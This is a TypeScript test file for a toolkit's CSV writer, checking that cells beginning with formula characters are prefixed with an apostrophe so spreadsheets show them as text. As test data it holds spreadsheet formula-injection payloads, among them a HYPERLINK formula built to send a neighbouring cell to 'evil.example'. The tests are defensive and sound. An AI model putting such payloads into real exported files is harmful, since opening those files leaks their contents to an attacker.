import { expect } from "chai";

import { formatLinksCsv, parseLinksCsv } from "../../src/claims/links-csv.js";
import { csvCell, restoreCsvCell } from "../../src/csv/csv-cell.js";
import { readCsv } from "../../src/csv/read-csv.js";
import { generateAttendees } from "../../src/demo/generate-attendees.js";

describe("csvCell: every CSV the toolkit writes neutralises spreadsheet formulas", function () {
  const attacks = ['=HYPERLINK("http://evil","x")', "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\r=1"];

  it("prefixes a formula cell with ' (and quotes it when it needs quoting)", function () {
    for (const value of attacks) {
      const cell = csvCell(value);
      const [record] = readCsv(`${cell}\n`).records;
      // What a spreadsheet reads from the file starts with ', so it is shown as text, never run.
      expect(record!.cells[0]!.startsWith("'"), JSON.stringify(value)).to.equal(true);
      expect(restoreCsvCell(`'${value}`)).to.equal(value);
    }
    expect(csvCell("ann@example.org")).to.equal("ann@example.org");
    expect(csvCell('a,"b"')).to.equal('"a,""b"""');
    expect(restoreCsvCell("'plain")).to.equal("'plain");
  });

  it("the links file (which holds every secret) neutralises a formula email and reads it back unchanged", function () {
    const rows = [
      {
        email: '=HYPERLINK("http://evil.example/?"&B2,"click")',
        url: "http://127.0.0.1:5173/claim.html#v=1&k=abc",
        claimAddress: "0x0000000000000000000000000000000000000001",
        batchId: 1n,
        index: 0n,
        quantity: 1n,
      },
    ];
    const text = formatLinksCsv(rows);
    const line = text.split("\r\n")[1]!;
    expect(line.startsWith(`"'=HYPERLINK(`)).to.equal(true);
    expect(parseLinksCsv(text, "links.csv")).to.deep.equal(rows);
  });

  it("the demo's attendee file goes through the same helper", function () {
    const { csv } = generateAttendees({ count: 2 });
    for (const line of csv.trim().split("\n")) {
      for (const cell of line.split(",")) expect(/^[=+\-@\t\r]/.test(cell), cell).to.equal(false);
    }
  });
});
